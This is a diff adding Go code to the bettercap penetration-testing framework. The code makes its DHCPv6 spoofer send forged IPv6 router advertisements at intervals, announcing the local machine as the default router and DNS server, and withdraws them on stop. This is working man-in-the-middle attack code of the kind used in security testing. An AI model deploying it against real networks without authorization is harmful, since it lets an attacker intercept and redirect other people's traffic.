@@ -0,0 +1,79 @@
+package modules
+
+import (
+	"fmt"
+	"net"
+	"time"
+
+	"github.com/bettercap/bettercap/core"
+	"github.com/bettercap/bettercap/log"
+	"github.com/bettercap/bettercap/packets"
+)
+
+// how many router advertisements with zero lifetime are sent on stop, in
+// case some of them get lost
+const raRestoreCount = 3
+
+// parseRAPrefix parses dhcp6.spoof.prefix, an empty value means no prefix
+// is advertised and the hosts only get an address via DHCPv6.
+func parseRAPrefix(value string) (error, *net.IPNet) {
+	if value == "" {
+		return nil, nil
+	}
+
+	ip, prefix, err := net.ParseCIDR(value)
+	if err != nil {
+		return err, nil
+	} else if ip.To4() != nil {
+		return fmt.Errorf("%s is not an IPv6 prefix", value), nil
+	} else if bits, _ := prefix.Mask.Size(); bits != 64 {
+		log.Warning("SLAAC only works with /64 prefixes, hosts will ignore %s.", value)
+	}
+	return nil, prefix
+}
+
+func (s *DHCP6Spoofer) sendRA(lifetime uint16) error {
+	err, raw := packets.NewRouterAdvertisement(s.Session.Interface.IPv6, s.Session.Interface.HW, packets.RouterAdvertisement{
+		Lifetime: lifetime,
+		Prefix:   s.prefix,
+		DNS:      s.dns,
+	})
+	if err != nil {
+		return err
+	}
+	return s.Send(raw)
+}
+
+func (s *DHCP6Spoofer) raLoop() {
+	defer s.waitGroup.Done()
+
+	prefix := "no prefix"
+	if s.prefix != nil {
+		prefix = s.prefix.String()
+	}
+	log.Info("[%s] advertising %s as the default router (%s, lifetime %ds) every %ds.",
+		core.Green("dhcp6"), s.Session.Interface.IPv6, prefix, s.lifetime, s.raEvery)
+
+	for s.WaitIfPaused() {
+		if err := s.sendRA(uint16(s.lifetime)); err != nil {
+			log.Error("error while sending router advertisement: %s", err)
+		}
+
+		// check often if we're still running, the period can be long
+		for slept := 0; slept < s.raEvery*10 && s.Running(); slept++ {
+			time.Sleep(100 * time.Millisecond)
+		}
+	}
+}
+
+// restoreRA tells the hosts we're not a default router anymore.
+func (s *DHCP6Spoofer) restoreRA() {
+	log.Info("[%s] withdrawing the router advertisements ...", core.Green("dhcp6"))
+	for i := 0; i < raRestoreCount; i++ {
+		if err := s.sendRA(0); err != nil {
+			log.Error("error while sending router advertisement: %s", err)
+			return
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+}